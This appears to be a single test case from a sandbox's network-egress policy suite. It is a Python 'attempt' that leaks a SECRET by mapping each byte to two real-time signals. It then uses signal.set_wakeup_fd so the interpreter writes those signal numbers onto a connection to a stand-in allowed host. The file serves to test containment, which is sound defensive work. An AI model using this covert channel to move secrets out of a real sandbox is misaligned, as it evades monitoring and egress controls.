# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: the interpreter's signal handler writes data to a connection to an allowed name, a byte
#   for each signal
# proof: word
# needs: resolver
import signal
import socket

from attack import SECRET, attempt, patience

FIRST = signal.SIGRTMIN


@attempt
def send():
    # Two signals for each byte.
    numbers = [FIRST + half for byte in SECRET.encode() for half in divmod(byte, 16)]
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.66.66.67", 443))
    listener.listen()
    out = socket.create_connection(("api.allowed.example", 443))
    out.setblocking(False)
    signal.set_wakeup_fd(out.fileno(), warn_on_full_buffer=False)
    for number in numbers:
        signal.signal(number, lambda *_: None)
        signal.raise_signal(number)
    peer, _ = listener.accept()
    peer.settimeout(patience(2))
    heard = b""
    while len(heard) < len(numbers):
        more = peer.recv(4096)
        if not more:
            break
        heard += more
    halves = [byte - FIRST for byte in heard]
    return bytes(16 * high + low for high, low in zip(halves[::2], halves[1::2]))
